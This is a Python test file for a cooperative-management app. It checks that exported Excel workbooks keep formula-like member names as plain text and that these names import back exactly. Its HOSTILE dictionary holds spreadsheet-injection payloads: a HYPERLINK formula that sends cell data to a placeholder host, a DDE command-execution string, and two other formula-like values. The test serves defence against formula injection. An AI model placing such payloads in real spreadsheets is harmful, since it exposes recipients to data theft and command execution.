"""A cooperative's exported workbook carries formula-like text as text, and imports back to the exact text."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from coopcore.models import Cooperative, Member
from coopcore.services.imports import COOPERATIVE, export_workbook, run_import
from tests.workbook.builders import cooperative_code, valid_book, write_book

TODAY = dt.date(2025, 6, 30)
HOSTILE = {
    "M02": '=HYPERLINK("http://x?d="&B2,"点此")',
    "M03": "=cmd|' /C calc'!A0",
    "M04": "+SUM(1+1)",
    "M05": "#N/A",  # openpyxl would write this as an error value
}


def _formulas(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type in ("f", "e")]  # fmt: skip


def test_formula_like_member_names_are_exported_as_text_and_import_back_exactly(
    session: Session, tmp_path: Path
) -> None:
    assert run_import(session, write_book(valid_book(1), tmp_path / "in.xlsx"), COOPERATIVE, today=TODAY).written
    coop_id = session.scalars(select(Cooperative.id).where(Cooperative.credit_code == cooperative_code(1))).one()
    for code, name in HOSTILE.items():
        session.execute(update(Member).where(Member.cooperative_id == coop_id, Member.code == code).values(name=name))
    session.flush()
    path = tmp_path / "export.xlsx"

    export_workbook(session, cooperative_code(1), path)

    assert _formulas(path) == []
    members = openpyxl.load_workbook(path)["成员"]
    header = [cell.value for cell in members[1]]
    names = {
        row[header.index("成员编号*")]: row[header.index("姓名或名称*")]
        for row in members.iter_rows(2, values_only=True)
    }
    assert {code: names[code] for code in HOSTILE} == HOSTILE
    report = run_import(session, path, COOPERATIVE, today=TODAY)
    assert report.messages() == [] and report.written and report.updated == 0
    session.expire_all()
    stored = dict(session.execute(select(Member.code, Member.name).where(Member.cooperative_id == coop_id)).all())
    assert {code: stored[code] for code in HOSTILE} == HOSTILE
